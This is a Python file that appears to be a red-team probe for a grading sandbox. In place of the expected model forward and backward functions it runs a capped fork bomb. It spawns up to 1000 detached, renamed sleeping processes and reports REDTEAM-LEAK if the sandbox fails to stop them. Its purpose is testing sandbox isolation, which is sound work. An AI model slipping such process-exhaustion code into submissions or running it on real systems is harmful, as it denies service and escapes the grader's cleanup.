"""Attack: fork until the process limit, each child in its own session (setsid), sleeping
forever under the name rtmark-fork.  (UNSAFE without the sandbox: root ignores RLIMIT_NPROC.)
Polite: stops at 1000 children and prints REDTEAM-LEAK then.
Expected: fork fails early (EAGAIN), the whole tree dies with the sandbox; score <= zeros baseline."""
import ctypes
import os
import time

import numpy as np

PR_SET_NAME = 15


def _child():
    try:
        os.setsid()
        ctypes.CDLL(None).prctl(PR_SET_NAME, b"rtmark-fork", 0, 0, 0)  # the test looks for strays by this name
        while True:
            time.sleep(60)
    finally:
        os._exit(0)  # never fall back into the grader's loop


def _forward(params, X, y):
    children = 0
    while children < 1000:
        try:
            pid = os.fork()
        except OSError as exc:
            print(f"REDTEAM-INFO: fork failed after {children} children: {exc}")
            break
        if pid == 0:
            _child()
        children += 1
    if children >= 1000:
        print("REDTEAM-LEAK: forked 1000 processes")
    return np.zeros((1, X.shape[1])), 0.0, dict(params)


def _backward(params, cache):
    return {k: np.zeros(np.shape(v)) for k, v in params.items()}


def sigmoid(z):
    return np.zeros(np.shape(z))


univariate_forward = multivariate_forward = two_layer_linear_forward = sigmoid_mlp_forward = _forward
univariate_backward = multivariate_backward = two_layer_linear_backward = sigmoid_mlp_backward = _backward
